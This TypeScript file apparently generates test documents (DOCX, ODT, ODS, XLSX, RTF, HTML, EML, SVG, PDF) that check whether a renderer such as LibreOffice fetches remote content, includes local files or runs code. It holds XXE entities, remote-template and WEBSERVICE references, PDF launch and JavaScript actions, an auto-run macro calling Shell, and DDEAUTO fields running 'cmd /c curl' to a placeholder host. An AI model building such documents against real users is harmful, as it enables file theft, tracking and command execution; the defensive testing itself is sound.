import { zip } from "../../samples/zip.ts";
import { pdf as writePdf } from "./pdf.ts";

/**
 * Documents that want more than to be read: each names addresses that its reader should ask, and a file of this machine that should
 * become part of it. `web`: the beginning of an address; `file`: one of a text, both without a quote in them.
 */
export interface Bait {
	readonly web: string;
	readonly file: string;
	/** Path of a file that a macro makes, should one run. */
	readonly trace: string;
}
/** What is honest in each of them. */
export const honest = "Sichtbar";

const xml = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>';
const office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
const package_ = "http://schemas.openxmlformats.org/package/2006";

const files = (all: Readonly<Record<string, string>>): Promise<Buffer> =>
	zip(Object.fromEntries(Object.entries(all).map(([name, text]) => [name, Buffer.from(text)])));

const types = (parts: Readonly<Record<string, string>>): string =>
	`${xml}<Types xmlns="${package_}/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>${Object.entries(
		parts,
	)
		.map(
			([name, type]) =>
				`<Override PartName="/${name}" ContentType="application/vnd.openxmlformats-officedocument.${type}+xml"/>`,
		)
		.join("")}</Types>`;

/** Of each: [type, target, outside the package]. */
const relations = (...all: [type: string, target: string, outside?: boolean][]): string =>
	`${xml}<Relationships xmlns="${package_}/relationships">${all
		.map(
			([type, target, outside], at) =>
				`<Relationship Id="r${at + 1}" Type="${office}/${type}" Target="${target}"${outside ? ' TargetMode="External"' : ""}/>`,
		)
		.join("")}</Relationships>`;

const picture = (relation: string, how: "link" | "embed" = "link"): string =>
	`<w:r><w:drawing><wp:inline><wp:extent cx="900000" cy="900000"/><wp:docPr id="1" name="x"/><a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic><pic:nvPicPr><pic:cNvPr id="1" name="x"/><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill><a:blip r:${how}="${relation}"/><a:stretch><a:fillRect/></a:stretch></pic:blipFill><pic:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="900000" cy="900000"/></a:xfrm><a:prstGeom prst="rect"><a:avLst/></a:prstGeom></pic:spPr></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r>`;
const field = (instruction: string): string =>
	`<w:p><w:r><w:fldChar w:fldCharType="begin" w:dirty="true"/></w:r><w:r><w:instrText xml:space="preserve"> ${instruction} </w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>Feld</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`;

/** Pictures and a template to be fetched, texts to be included, fields that start a program. */
const docx = ({ web, file }: Bait, doctype = ""): Promise<Buffer> =>
	files({
		"[Content_Types].xml": types({
			"word/document.xml": "wordprocessingml.document.main",
			"word/settings.xml": "wordprocessingml.settings",
		}),
		"_rels/.rels": relations(["officeDocument", "word/document.xml"]),
		"word/_rels/document.xml.rels": relations(
			["image", `${web}/bild.png`, true],
			["image", file, true],
			["settings", "settings.xml"],
			["subDocument", `${web}/teil.docx`, true],
			["aFChunk", `${web}/stueck.html`, true],
			["oleObject", `${web}/objekt.bin`, true],
			["frame", `${web}/rahmen.html`, true],
		),
		"word/_rels/settings.xml.rels": relations(["attachedTemplate", `${web}/vorlage.dotm`, true]),
		"word/settings.xml": `${xml}<w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="${office}"><w:attachedTemplate r:id="r1"/><w:linkStyles/><w:updateFields w:val="true"/></w:settings>`,
		"word/document.xml": `${xml}${doctype}<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="${office}" xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing" xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"><w:body><w:p><w:r><w:t>${honest}${doctype && " &fremd; &netz;"}</w:t></w:r></w:p><w:p>${picture("r1")}${picture("r2")}${picture("r1", "embed")}</w:p>${field(`INCLUDETEXT "${file}"`)}${field(`INCLUDEPICTURE "${web}/feld.png"`)}${field(`DDEAUTO cmd "/c curl ${web}/dde"`)}${field(`IMPORT "${web}/import.png"`)}<w:subDoc r:id="r4"/><w:altChunk r:id="r5"/></w:body></w:document>`,
	});

/** The same, and entities of XML that lie elsewhere. */
export const docxWithEntities = (bait: Bait): Promise<Buffer> =>
	docx(bait, `<!DOCTYPE w:document [<!ENTITY fremd SYSTEM "${bait.file}"><!ENTITY netz SYSTEM "${bait.web}/entity">]>`);

const openDocument = (mime: string, content: string, more: Readonly<Record<string, string>> = {}): Promise<Buffer> =>
	files({
		mimetype: `application/vnd.oasis.opendocument.${mime}`,
		"META-INF/manifest.xml": `${xml}<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"><manifest:file-entry manifest:full-path="/" manifest:media-type="application/vnd.oasis.opendocument.${mime}"/>${[
			"content.xml",
			...Object.keys(more),
		]
			.map((path) => `<manifest:file-entry manifest:full-path="${path}" manifest:media-type="text/xml"/>`)
			.join("")}</manifest:manifest>`,
		"content.xml": `${xml}<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0" xmlns:svg="urn:oasis:names:tc:opendocument:xmlns:svg-compatible:1.0" office:version="1.3">${content}</office:document-content>`,
		...more,
	});

/** Sections and pictures that lie elsewhere, an object, a frame, and a macro that starts with the document. */
const odt = ({ web, file, trace }: Bait): Promise<Buffer> =>
	openDocument(
		"text",
		`<office:scripts><office:event-listeners><script:event-listener script:language="ooo:script" script:event-name="dom:load" xlink:href="vnd.sun.star.script:Standard.Bad.Main?language=Basic&amp;location=document" xlink:type="simple"/></office:event-listeners></office:scripts><office:body><office:text><text:p>${honest}</text:p><text:section text:name="a"><text:section-source xlink:href="${file}" xlink:type="simple" xlink:show="embed"/><text:p>leer</text:p></text:section><text:section text:name="b"><text:section-source xlink:href="${web}/teil.odt" xlink:type="simple"/><text:p>leer</text:p></text:section><text:p><draw:frame svg:width="3cm" svg:height="3cm" text:anchor-type="as-char"><draw:image xlink:href="${web}/bild.png" xlink:type="simple" xlink:show="embed" xlink:actuate="onLoad"/></draw:frame><draw:frame svg:width="3cm" svg:height="3cm" text:anchor-type="as-char"><draw:object xlink:href="${web}/objekt.odt" xlink:type="simple"/></draw:frame><draw:frame svg:width="3cm" svg:height="3cm" text:anchor-type="as-char"><draw:floating-frame xlink:href="${web}/rahmen.html" xlink:type="simple"/></draw:frame></text:p></office:text></office:body>`,
		{
			"Basic/script-lc.xml": `${xml}<library:libraries xmlns:library="http://openoffice.org/2000/library"><library:library library:name="Standard" library:link="false"/></library:libraries>`,
			"Basic/Standard/script-lb.xml": `${xml}<library:library xmlns:library="http://openoffice.org/2000/library" library:name="Standard" library:readonly="false"><library:element library:name="Bad"/></library:library>`,
			"Basic/Standard/Bad.xml": `${xml}<script:module xmlns:script="http://openoffice.org/2000/script" script:name="Bad" script:language="StarBasic">Sub Main\nShell(&quot;/usr/bin/touch&quot;, 0, &quot;${trace}&quot;, True)\nEnd Sub\n</script:module>`,
		},
	);

/** Cells that ask the web, sheets and ranges that lie elsewhere, a formula that starts a program. */
const ods = ({ web, file }: Bait): Promise<Buffer> =>
	openDocument(
		"spreadsheet",
		`<office:body><office:spreadsheet><table:table table:name="a"><table:table-row><table:table-cell office:value-type="string"><text:p>${honest}</text:p></table:table-cell><table:table-cell table:formula="of:=WEBSERVICE(&quot;${web}/zelle&quot;)" office:value-type="string"><text:p>x</text:p></table:table-cell><table:table-cell table:formula="of:=['${file}'#$Sheet1.A1]" office:value-type="string"><text:p>x</text:p></table:table-cell><table:table-cell table:formula="of:=DDE(&quot;soffice&quot;;&quot;${file}&quot;;&quot;A1&quot;)" office:value-type="string"><text:p>x</text:p></table:table-cell><table:table-cell table:formula="of:=WEBSERVICE(&quot;${file}&quot;)" office:value-type="string"><text:p>x</text:p><table:cell-range-source table:name="HTML_all" xlink:type="simple" xlink:href="${web}/bereich.html" table:filter-name="calc_HTML_WebQuery" table:last-column-spanned="1" table:last-row-spanned="1"/></table:table-cell></table:table-row></table:table><table:table table:name="b"><table:table-source xlink:type="simple" xlink:href="${file}" table:filter-name="Text - txt - csv (StarCalc)" table:filter-options="44,34,76,1"/><table:table-row><table:table-cell/></table:table-row></table:table></office:spreadsheet></office:body>`,
	);

/** Excel's own ways: a link to another book, a connection to be refreshed when it is opened, a cell that asks the web. */
const xlsx = ({ web, file }: Bait): Promise<Buffer> =>
	files({
		"[Content_Types].xml": types({
			"xl/workbook.xml": "spreadsheetml.sheet.main",
			"xl/worksheets/sheet1.xml": "spreadsheetml.worksheet",
			"xl/externalLinks/externalLink1.xml": "spreadsheetml.externalLink",
			"xl/connections.xml": "spreadsheetml.connections",
		}),
		"_rels/.rels": relations(["officeDocument", "xl/workbook.xml"]),
		"xl/_rels/workbook.xml.rels": relations(
			["worksheet", "worksheets/sheet1.xml"],
			["externalLink", "externalLinks/externalLink1.xml"],
			["connections", "connections.xml"],
		),
		"xl/externalLinks/_rels/externalLink1.xml.rels": relations(["externalLinkPath", `${web}/mappe.xlsx`, true]),
		"xl/externalLinks/externalLink1.xml": `${xml}<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><externalBook xmlns:r="${office}" r:id="r1"><sheetNames><sheetName val="S"/></sheetNames></externalBook></externalLink>`,
		"xl/connections.xml": `${xml}<connections xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><connection id="1" name="x" type="4" refreshedVersion="6" refreshOnLoad="1"><webPr url="${web}/verbindung"/></connection></connections>`,
		"xl/workbook.xml": `${xml}<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="${office}"><sheets><sheet name="S" sheetId="1" r:id="r1"/></sheets><externalReferences><externalReference r:id="r2"/></externalReferences><calcPr fullCalcOnLoad="1"/></workbook>`,
		"xl/worksheets/sheet1.xml": `${xml}<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>${honest}</t></is></c><c r="B1" t="str"><f>_xlfn.WEBSERVICE("${web}/zelle")</f><v>x</v></c><c r="C1" t="str"><f>[1]S!A1</f><v>x</v></c><c r="D1" t="str"><f>_xlfn.WEBSERVICE("${file}")</f><v>x</v></c></row></sheetData></worksheet>`,
	});

const rtf = ({ web, file }: Bait): Buffer =>
	Buffer.from(
		`{\\rtf1\\ansi{\\*\\template ${web}/vorlage.dotm}${honest}\\par{\\field\\fldedit{\\*\\fldinst{INCLUDEPICTURE "${web}/feld.png" \\\\d}}{\\fldrslt x}}{\\field\\flddirty{\\*\\fldinst{INCLUDETEXT "${file}"}}{\\fldrslt x}}{\\field{\\*\\fldinst{DDEAUTO cmd "/c curl ${web}/dde" a}}{\\fldrslt x}}{\\object\\objautlink\\rsltpict{\\*\\objclass Word.Document}{\\*\\objdata 01}}}`,
	);

export const html = ({ web, file }: Bait): Buffer =>
	Buffer.from(
		`<!DOCTYPE html [<!ENTITY fremd SYSTEM "${file}">]><html><head><link rel="stylesheet" href="${web}/a.css"><meta http-equiv="refresh" content="0;url=${web}/b"><script src="${web}/c.js"></script></head><body><p>${honest} &fremd;</p><img src="${web}/d.png"><img src="${file}"><iframe src="${file}"></iframe><object data="${file}"></object><svg><image href="${web}/e.png"/><use href="${file}#x"/></svg></body></html>`,
	);

/** A mail as such pages are sent: with pictures that count who opens it. */
export const eml = (bait: Bait): Buffer =>
	Buffer.from(
		`From: a@b.example\r\nTo: c@d.example\r\nDate: Thu, 1 Jan 2026 10:00:00 +0100\r\nSubject: x\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=x\r\n\r\n--x\r\nContent-Type: text/html; charset=utf-8\r\n\r\n${html(bait)}\r\n--x\r\nContent-Type: message/external-body; access-type=URL; URL="${bait.web}/f"\r\n\r\nContent-Type: text/plain\r\n\r\n--x--\r\n`,
	);

export const svg = ({ web, file }: Bait): Buffer =>
	Buffer.from(
		`<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY fremd SYSTEM "${file}">]><?xml-stylesheet href="${web}/a.css"?><svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="200" height="100"><script href="${web}/b.js"/><image xlink:href="${web}/c.png" width="9" height="9"/><image href="${file}" width="9" height="9"/><text y="20">${honest} &fremd;</text></svg>`,
	);

/** A page whose picture, whose content and whose colours lie elsewhere, and which sends, starts and opens (ISO 32000-2, 7.3.8.2, 12.6.4). */
export const pdf = ({ web, file }: Bait): Buffer => {
	const path = new URL(file).pathname;
	const objects = [
		`<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /URI /URI (${web}/auf) /Next << /S /JavaScript /JS (app.launchURL\\('${web}/js'\\)) >> >> /AcroForm << /Fields [] /XFA [(template) 7 0 R] >> >>`,
		"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
		`<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 200] /Contents [4 0 R 6 0 R] /Resources << /Font << /F << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> /XObject << /X 5 0 R >> >> /AA << /O << /S /SubmitForm /F << /FS /URL /F (${web}/senden) >> >> >> /Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /Launch /F (${path}) >> >> << /Type /Annot /Subtype /Link /Rect [9 9 20 20] /A << /S /GoToR /F << /FS /URL /F (${web}/weiter.pdf) >> /D [0 /Fit] >> >>] >>`,
		stream(`BT /F 20 Tf 20 100 Td (${honest}) Tj ET /X Do`),
		stream(
			"",
			`/Type /XObject /Subtype /Image /Width 9 /Height 9 /ColorSpace /DeviceGray /BitsPerComponent 8 /F (${path})`,
		),
		stream("", `/F (${path})`),
		stream(`<template><image href="${web}/xfa.png"/></template>`),
	];
	return writePdf(objects);
};
const stream = (content: string, more = ""): string =>
	`<< /Length ${content.length} ${more} >>\nstream\n${content}\nendstream`;

/** What LibreOffice draws. */
export const drawn = { docx, odt, rtf, xlsx, ods };
